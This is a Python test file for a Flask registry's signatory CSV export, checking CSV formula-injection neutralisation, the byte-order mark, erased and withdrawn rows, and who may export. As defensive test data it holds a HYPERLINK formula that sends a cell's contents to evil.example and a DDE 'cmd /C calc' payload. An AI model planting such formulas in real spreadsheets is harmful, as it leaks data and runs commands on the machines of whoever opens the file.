"""The signatories of a version as CSV: formula injection neutralised, UTF-8 with BOM, erased rows empty.

A signer may type ``=HYPERLINK(…)`` as their name; an organiser opening the export in a
spreadsheet must see text, not run a formula (OWASP "CSV Injection").
"""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace

import pytest
from flask import Flask

from registry.services import erasure, export, signing, withdrawals
from tests.conftest import sign_in
from tests.factories import DEMO, walk_in

PATH = f"/admin/commitments/{DEMO}/versions/1/signatories.csv"
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+1", "-1", "@SUM(A1:A9)"]


def _sign(app: Flask, name: str, institution: str = "Dinas Uji Coba", public: bool = True) -> str:
    request = walk_in(name, public_display=public)
    assert request.signatory is not None
    request = replace(request, signatory=replace(request.signatory, institution=institution))
    with app.app_context():
        return signing.sign(request, app.extensions["ikrar.signers"]).record.id


def _rows(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf"), "UTF-8 byte-order mark for Excel"
    return list(csv.reader(io.StringIO(body[3:].decode("utf-8"), newline="")))


def test_export_neutralises_formulas_and_carries_a_bom(app: Flask) -> None:
    for name in HOSTILE:
        _sign(app, name)
    _sign(app, "Ségara Nur’aini", institution="=cmd|' /C calc'!A0", public=False)
    client = app.test_client()
    sign_in(app, client, "admin")
    response = client.get(PATH)
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and f"ikrar-{DEMO}-v1" in disposition
    rows = _rows(response.data)
    header, body = rows[0], rows[1:]
    assert header[0] == "Nama" and header[-1] == "Status" and len(header) == 8
    names = [r[0] for r in body]
    assert names[:4] == ["'" + n for n in HOSTILE]
    segara = body[4]
    assert segara[0] == "Ségara Nur’aini" and segara[2] == "'=cmd|' /C calc'!A0"
    assert segara[6] == "tidak" and body[0][6] == "ya"
    assert all(r[3] == "Pemerintah / OPD" for r in body)
    assert all(r[7] == "sah" for r in body)
    # Indonesian long form in WIB, e.g. "Kamis, 12 September 2024 10.15 WIB".
    assert re.fullmatch(r"[A-Z][a-z]+, \d{1,2} [A-Z][a-z]+ \d{4} \d{2}\.\d{2} WIB", body[0][4]), body[0][4]
    # No cell a spreadsheet would run.
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+62 812", "'+62 812"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Agus", "Agus"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_each_formula_start_is_neutralised(cell: str, written: str) -> None:
    assert export.neutralise(cell) == written
    body = export.to_csv(["h"], [[cell]])
    assert _rows(body)[1] == [written]


def test_withdrawn_and_erased_rows(app: Flask) -> None:
    kept = _sign(app, "Tetap Ada")
    withdrawn = _sign(app, "Salah Tanda")
    erased = _sign(app, "Hapus Saya")
    with app.app_context():
        withdrawals.withdraw(withdrawn, "Ditandatangani oleh orang yang salah", "admin")
        erasure.erase([erased], ground="request", actor="test")
        codes = {r: signing.get(r).code for r in (kept, withdrawn, erased)}
    client = app.test_client()
    sign_in(app, client, "auditor")  # auditors read the roll, so they may export it too
    body = _rows(client.get(PATH).data)[1:]
    by_code = {r[5]: r for r in body}
    assert by_code[codes[kept]][7] == "sah"
    assert by_code[codes[withdrawn]][0] == "Salah Tanda" and by_code[codes[withdrawn]][7] == "ditarik"
    gone = by_code[codes[erased]]
    assert gone[:4] == ["", "", "", ""] and gone[6] == "" and gone[7] == "data pribadi dihapus"
    assert "Hapus Saya" not in client.get(PATH).get_data(as_text=True)


def test_who_may_export(app: Flask) -> None:
    anonymous = app.test_client().get(PATH)
    assert anonymous.status_code == 302 and "/login" in anonymous.headers["Location"]
    operator = app.test_client()
    sign_in(app, operator, "operator")
    assert operator.get(PATH).status_code == 403
    admin = app.test_client()
    sign_in(app, admin, "admin")
    assert admin.get(f"/admin/commitments/{DEMO}/versions/9/signatories.csv").status_code == 404
    assert admin.get("/admin/commitments/nope/versions/1/signatories.csv").status_code == 404
    page = admin.get(f"/admin/commitments/{DEMO}/versions/1/progress").get_data(as_text=True)
    assert 'id="signatories-csv"' in page
